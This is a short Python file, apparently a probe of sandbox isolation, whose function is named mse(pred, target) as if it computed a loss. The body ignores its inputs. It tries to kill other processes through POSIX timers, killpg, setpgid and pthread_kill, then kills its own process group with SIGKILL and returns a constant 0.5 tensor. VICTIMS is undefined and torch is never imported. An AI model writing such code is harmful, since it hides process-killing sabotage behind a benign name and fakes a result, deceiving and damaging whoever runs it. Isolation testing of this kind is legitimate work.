"""Has timers, terminals, message queues and the end of a process send the signal for it, to threads of others.

levels: namespaces landlock
"""

import ctypes
import os
import signal
import struct
import time


def mse(pred, target):
    libc = ctypes.CDLL(None, use_errno=True)
    for victim in VICTIMS:
        for how in (4, 5, 6):  # SIGEV_THREAD_ID, alone and with what has no meaning
            event = ctypes.create_string_buffer(struct.pack("qiii", 0, signal.SIGKILL, how, victim).ljust(64, b"\0"))
            timer = ctypes.c_void_p()
            if libc.timer_create(0, event, ctypes.byref(timer)) == 0:
                raise RuntimeError(f"STOLEN: a timer for {victim}")
        for attempt in (
            lambda victim=victim: os.tcsetpgrp(0, victim),
            lambda victim=victim: os.killpg(victim, signal.SIGKILL),
            lambda victim=victim: os.setpgid(victim, os.getpid()),
            lambda victim=victim: signal.pthread_kill(victim, signal.SIGKILL) if victim < 0 else None,
        ):
            try:
                attempt()
            except OSError:
                pass
    if os.fork() == 0:
        libc.prctl(1, signal.SIGKILL, 0, 0, 0)
        if os.fork() == 0:
            time.sleep(60)
        os.kill(0, signal.SIGKILL)
    os.wait()
    return torch.tensor(0.5)
